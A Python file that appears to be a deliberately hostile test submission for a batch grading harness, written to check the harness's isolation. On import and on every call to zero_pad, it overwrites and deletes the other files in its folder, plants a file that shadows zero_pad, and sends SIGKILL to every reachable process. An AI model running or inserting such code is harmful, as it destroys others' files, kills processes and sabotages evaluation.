"""In a batch: overwrite, delete and add files in the submissions' folder, and kill whatever
it can see (the batch driver, the other submissions' checkers)."""
import os
import signal

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))


def _vandalise():
    for name in os.listdir(HERE):
        path = os.path.join(HERE, name)
        if path == os.path.abspath(__file__):
            continue
        try:
            with open(path, "w") as out:
                out.write("def zero_pad(X, pad):\n    return 0\n")
        except OSError:
            pass
        try:
            os.remove(path)
        except OSError:
            pass
    try:
        with open(os.path.join(HERE, "zz_injected.py"), "w") as out:
            out.write("def zero_pad(X, pad):\n    return X\n")
    except OSError:
        pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


_vandalise()


def zero_pad(X, pad):
    _vandalise()
    return np.zeros_like(X)
